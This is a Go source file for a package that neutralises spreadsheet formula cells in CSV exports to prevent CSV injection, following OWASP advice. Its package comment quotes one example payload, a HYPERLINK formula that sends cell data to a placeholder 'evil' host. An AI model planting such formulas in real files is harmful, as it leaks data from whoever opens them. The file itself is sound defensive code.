// Package csvsafe writes CSV that is safe to open in a spreadsheet: every
// cell that a spreadsheet would read as a formula is neutralised with a
// leading single quote, as OWASP's "CSV injection" guidance advises.
//
// Exports hold text that outsiders typed (names, messages, e-mail
// addresses); a cell such as =HYPERLINK("http://evil/?"&A1) would otherwise
// run when an administrator opens the file. Quoting and escaping are left to
// encoding/csv, so the output stays plain RFC 4180 CSV.
package csvsafe

import (
	"bufio"
	"encoding/csv"
	"fmt"
	"io"
)

// BufferSize is the write buffer of a Writer: large enough that a file or
// socket sees few, big writes.
const BufferSize = 64 << 10

// NeedsQuote reports whether a spreadsheet would treat cell as a formula or
// as the start of one: it begins with =, +, -, @, a tab or a carriage
// return. Negative numbers such as -5 are neutralised too; a spreadsheet
// then shows them as text, which is the price of never running a formula.
func NeedsQuote(cell string) bool {
	if cell == "" {
		return false
	}
	switch cell[0] {
	case '=', '+', '-', '@', '\t', '\r':
		return true
	}
	return false
}

// Neutralise returns cell with a single quote in front when NeedsQuote says
// so, and cell itself otherwise (without allocating).
func Neutralise(cell string) string {
	if NeedsQuote(cell) {
		return "'" + cell
	}
	return cell
}

// Writer writes neutralised CSV records through a buffer. Like csv.Writer
// it is not safe for concurrent use; call Flush at the end and check its
// error.
type Writer struct {
	csv     *csv.Writer
	scratch []string
}

// NewWriter returns a Writer that writes to w with a BufferSize buffer.
func NewWriter(w io.Writer) *Writer {
	// csv.NewWriter keeps a *bufio.Writer that is already large enough.
	return &Writer{csv: csv.NewWriter(bufio.NewWriterSize(w, BufferSize))}
}

// Write writes one record, neutralising its cells. It never modifies
// record, so callers may reuse the slice for the next row.
func (w *Writer) Write(record []string) error {
	out, copied := record, false
	for i, cell := range record {
		if !NeedsQuote(cell) {
			continue
		}
		if !copied { // first cell to change: copy the record once
			w.scratch = append(w.scratch[:0], record...)
			out, copied = w.scratch, true
		}
		out[i] = "'" + cell
	}
	if err := w.csv.Write(out); err != nil {
		return fmt.Errorf("write csv record: %w", err)
	}
	return nil
}

// Flush writes any buffered data to the underlying writer and reports the
// first error any Write or Flush met.
func (w *Writer) Flush() error {
	w.csv.Flush()
	if err := w.csv.Error(); err != nil {
		return fmt.Errorf("flush csv: %w", err)
	}
	return nil
}
